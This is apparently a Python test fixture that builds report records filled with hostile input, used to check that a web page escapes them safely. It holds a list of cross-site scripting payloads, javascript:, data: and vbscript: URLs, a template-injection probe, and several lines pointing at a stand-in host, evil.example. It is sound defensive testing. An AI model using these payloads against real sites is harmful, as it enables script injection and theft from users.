"""What a hostile report would bring: markup, scripts and addresses in every place that a page shows."""

from __future__ import annotations

import json

from pourparler.records import Reading, contract
from tests import builders

ATTACKS = (
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    '"><svg/onload=hacked()>',
    "' onmouseover='hacked()' autofocus onfocus='hacked()",
    '" onclick="hacked()" style="position:fixed;inset:0',
    "</title><script>hacked()</script>",
    "</textarea></style></script><script>hacked()</script>",
    "<iframe srcdoc='<script>parent.hacked()</script>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
    "<form action=https://evil.example><button>send",
    "<style>*{background:url(https://evil.example)}</style>",
    "<a href=javascript:hacked()>x</a>",
    "{{ ''.__class__.__mro__ }}{% for x in () %}{% endfor %}",
    "${hacked()}`+hacked()+`",
    "<!--<img src='--><img src=x onerror=hacked()>",
    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
    "\u202e<scr\u0000ipt>hacked()</scr\u0000ipt>\u2028hacked()",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "&lt;script&gt;hacked()&lt;/script&gt;&#60;script&#62;hacked()&#60;/script&#62;",
)
"""``hacked`` is a function that the browser test watches; nothing here may ever call it."""

ADDRESSES = (
    "javascript:hacked()",
    "JaVaScRiPt:hacked()",
    " javascript:hacked()",
    "data:text/html,<script>parent.hacked()</script>",
    "vbscript:hacked",
    'https://news.example/"onmouseover="hacked()',
)
PLACES = ("Ada Berg", "Sudia", "Oslo", "Geneva", "a-rule", "offered", "we are ready", "ends the blockade")


def hostile(number: int, attack: str) -> Reading:
    """Return a reading that has the attack as title, publisher, names, places, words, rule and message."""
    data = contract.to_dict(builders.numbered(number, title=attack, publisher=attack))
    text = json.dumps(data)
    quoted = json.dumps(attack.replace("\0", ""))[1:-1]
    for word in PLACES:
        text = text.replace(f'"{word}', f'"{quoted} {word}').replace(f" {word}", f" {quoted} {word}")
    held = json.loads(text)
    held["report"] |= {"url": ADDRESSES[number % len(ADDRESSES)], "title": attack.replace("\0", "")}
    return contract.from_dict(held)
